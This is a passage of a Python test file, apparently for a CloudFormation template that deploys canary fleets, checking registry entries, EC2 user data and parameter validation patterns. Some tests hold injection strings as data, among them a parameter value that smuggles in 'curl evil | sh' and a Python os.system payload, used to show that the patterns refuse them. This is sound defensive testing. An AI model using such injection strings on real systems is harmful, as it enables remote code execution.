        ApproverSlackUserIds="U012AB3CD",
        SlackChannel="C0123ABCD",
        DrainOnRebalance="true",
        RolloutPolicy=json.dumps(policy, separators=(",", ":")),
    )

    config = AppConfig.model_validate_json(rendered.resolve(props(template, "RegistryEntry"))["Value"])

    assert config.approvers.emails == ("ana@example.com", "bo@example.com")
    assert config.approvers.slack_user_ids == ("U012AB3CD",)
    assert config.approvers.slack_channel == "C0123ABCD"
    assert config.drain_on_rebalance is True
    assert config.policy is not None and config.policy.max_weight == 10


@pytest.mark.parametrize(
    ("overridden", "value", "taken"),
    [
        (
            "approvers",
            {"emails": ["mallory@example.com"]},
            lambda c: c.approvers.emails == ("mallory@example.com",),
        ),
        (
            "live",
            {
                "deployment_group": "payments-live",
                "target_group_arn": LISTENER_ARN.replace(":listener/app/", ":targetgroup/"),
                "auto_scaling_group": "payments-live",
            },
            lambda c: c.live.deployment_group == "payments-live",
        ),
    ],
)
def test_a_rollout_policy_that_goes_on_past_the_policy_cannot_replace_the_stacks_own_fields(
    template: dict[str, Any], overridden: str, value: dict[str, Any], taken: Any
) -> None:
    # Given a RolloutPolicy that closes a valid policy and gives one of the entry's earlier keys
    # again: CloudFormation cannot check JSON, and the parameter's pattern only wants it in braces
    policy = {"steps": [{"kind": "set_weight", "weight": 10}, {"kind": "bake", "duration_seconds": 300}]}
    written = json.dumps(policy) + ", " + json.dumps({overridden: value})[1:-1]
    assert re.fullmatch(template["Parameters"]["RolloutPolicy"]["AllowedPattern"], written)
    entry = stack(template, ApproverEmails="ana@example.com", RolloutPolicy=written).resolve(
        props(template, "RegistryEntry")
    )
    # (a JSON parser alone takes the last: the stack's own value is lost)
    assert taken(AppConfig.model_validate_json(entry["Value"]))

    # Then the platform refuses the entry instead of reading the last of each key
    with pytest.raises(ConfigurationError, match=f"key '{overridden}' is given twice in one object"):
        read_registry_entry(entry["Name"], entry["Value"])


def test_the_application_name_is_constrained_as_the_platform_constrains_it(template: dict[str, Any]) -> None:
    assert template["Parameters"]["Application"]["AllowedPattern"] == APP_NAME_PATTERN


def test_the_outputs_name_what_the_platform_and_operators_look_up(template: dict[str, Any]) -> None:
    assert {
        "RegistryParameterName",
        "CodeDeployApplicationName",
        "CanaryDeploymentGroupName",
        "LiveDeploymentGroupName",
        "CanaryAutoScalingGroupName",
        "LiveAutoScalingGroupName",
        "CanaryTargetGroupArn",
        "LiveTargetGroupArn",
        "ListenerRuleArn",
        "DashboardUrl",
    } <= set(template["Outputs"])


# --- user data ----------------------------------------------------------------------


def test_user_data_installs_and_starts_the_ssm_and_codedeploy_agents(template: dict[str, Any]) -> None:
    script = user_data(template)

    assert "dnf install -y amazon-ssm-agent" in script
    assert "systemctl enable --now amazon-ssm-agent" in script
    assert '"https://aws-codedeploy-$REGION.s3.$REGION.amazonaws.com/latest/install"' in script
    assert "REGION='eu-west-1'" in script
    assert "/tmp/codedeploy-install auto" in script
    assert "systemctl enable --now codedeploy-agent" in script
    # The CodeDeploy agent starts last: the revision it installs needs what ansible set up.
    assert script.index("ansible-pull") < script.index("/tmp/codedeploy-install auto")


def test_user_data_runs_ansible_pull_from_the_repository_and_branch_given(template: dict[str, Any]) -> None:
    script = user_data(template)

    assert "ANSIBLE_REPOSITORY='https://git.example.com/platform/baseline.git'" in script
    assert "ANSIBLE_BRANCH='release-7'" in script
    assert "ANSIBLE_PLAYBOOK='local.yml'" in script
    (command,) = [line for line in script.splitlines() if line.startswith("ExecStart=/usr/bin/ansible-pull")]
    assert "--url $ANSIBLE_REPOSITORY --checkout $ANSIBLE_BRANCH" in command
    assert "application=$APPLICATION role=$ROLE" in command
    assert command.endswith("$ANSIBLE_PLAYBOOK")
    assert "systemctl start canaryfleet-ansible-pull.service" in script
    assert "systemctl enable --now canaryfleet-ansible-pull.timer" in script


def test_user_data_tags_the_instance_for_monitoring(template: dict[str, Any]) -> None:
    script = user_data(template)

    assert "ROLE=$(imds meta-data/tags/instance/role)" in script
    assert 'aws ec2 create-tags --region "$AWS_REGION" --resources "$INSTANCE_ID"' in script
    assert '--tags "Key=version,Value=$(basename "$key" .zip)"' in script
    assert "systemctl enable --now canaryfleet-tag-version.path" in script
    assert (
        "InstanceMetadataTags" in props(template, "LaunchTemplate")["LaunchTemplateData"]["MetadataOptions"]
    )


def test_user_data_uses_imdsv2_tokens(template: dict[str, Any]) -> None:
    script = user_data(template)

    assert "curl -fsS -X PUT http://169.254.169.254/latest/api/token" in script
    assert '-H "X-aws-ec2-metadata-token: $token"' in script


def test_user_data_leaves_no_template_variable_and_is_valid_bash(template: dict[str, Any]) -> None:
    script = user_data(template, Application="billing")

    assert script.startswith("#!/bin/bash\n")
    assert "${" not in script
    assert "APPLICATION='billing'" in script and "LOG_BUCKET='canaryfleet-logs-1'" in script
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("bash is not installed")
    checked = subprocess.run([bash, "-n"], input=script, capture_output=True, text=True, check=False)
    assert checked.returncode == 0, checked.stderr


def test_parameters_that_reach_the_user_data_cannot_break_out_of_its_quotes(template: dict[str, Any]) -> None:
    for name in ("AnsibleRepositoryUrl", "AnsibleBranch", "AnsiblePlaybook"):
        pattern = template["Parameters"][name]["AllowedPattern"]
        assert not re.match(pattern, "main'; curl evil | sh; echo '.yml")
    assert re.match(
        template["Parameters"]["AnsibleRepositoryUrl"]["AllowedPattern"], "git@github.com:org/repo.git"
    )


# --- before the first release (tests/integration/test_fleet_placeholder.py runs the placeholder)
def test_a_health_check_path_cannot_break_out_of_the_placeholders_string(template: dict[str, Any]) -> None:
    pattern = template["Parameters"]["HealthCheckPath"]["AllowedPattern"]

    assert re.match(pattern, "/healthz?from=alb") and re.match(pattern, "/it's")
    assert not re.match(pattern, '/"""+__import__("os").system("id")+r"""')
    assert not re.match(pattern, "/ends-with\\")


# The parameters written into the registry entry, the entry's field each becomes, and the fewest
# the stack takes when that is more than the field's (a live group of one fails every HalfAtATime
# deployment).
REGISTRY_NUMBERS = (
    ("LiveMinSize", "color_capacity", 2),
    ("ScaleDownDelaySeconds", "scale_down_delay_seconds", None),
    ("CapacityTimeoutSeconds", "capacity_timeout_seconds", None),
)


def _takes(template: dict[str, Any], parameter: str, value: str) -> bool:
    """Whether CloudFormation takes ``value`` for ``parameter``, as the local cloud holds it to
    the parameter's constraints (``canaryfleet_local.cloudformation_rules``)."""
    alone = {"Parameters": {parameter: template["Parameters"][parameter]}}
    return rules.parameter_errors(alone, {parameter: value}) == []


@pytest.mark.parametrize(("parameter", "field_name", "fewest"), REGISTRY_NUMBERS)
def test_the_whole_numbers_a_stack_takes_for_the_registry_are_the_ones_its_entry_reads(
    template: dict[str, Any], parameter: str, field_name: str, fewest: int | None
) -> None:
    # A value the entry's model refuses would leave the application with an entry no rollout or
    # drain can read: the stack must refuse it instead
    least, most = integer_bounds(field_name)
    taken = [n for n in range(0, 10 * most + 1) if _takes(template, parameter, str(n))]

    assert template["Parameters"][parameter]["Type"] == "String", "a Number takes no AllowedPattern"
    assert taken == list(range(max(least, fewest or least), most + 1))
    for value in (str(taken[0]), str(taken[-1]), template["Parameters"][parameter]["Default"]):
        entry = stack(template, **{parameter: value}).resolve(props(template, "RegistryEntry"))
        assert getattr(AppConfig.model_validate_json(entry["Value"]), field_name) == int(value)


@pytest.mark.parametrize("parameter", [parameter for parameter, _, _ in REGISTRY_NUMBERS])
@pytest.mark.parametrize(
    "written",
    ["600.5", "600.0", "6e2", "0600", "00", "+600", "-1", " 600", "600 ", "600\n", "1_000", "", "six"],
)
def test_a_number_for_the_registry_not_written_as_a_plain_whole_number_is_refused(
    template: dict[str, Any], parameter: str, written: str
) -> None:
    # CloudFormation's Number takes "an integer or float": 600.5 would reach the entry as JSON the
    # model refuses, 0600 as no JSON at all
    assert not _takes(template, parameter, written)


def test_the_live_maximum_starts_where_the_live_minimum_does(template: dict[str, Any]) -> None:
    # LiveMaxSize under the fewest LiveMinSize takes is under any LiveMinSize the stack takes
    fewest = next(n for n in range(0, 1001) if _takes(template, "LiveMinSize", str(n)))

    assert int(template["Parameters"]["LiveMaxSize"]["MinValue"]) == fewest
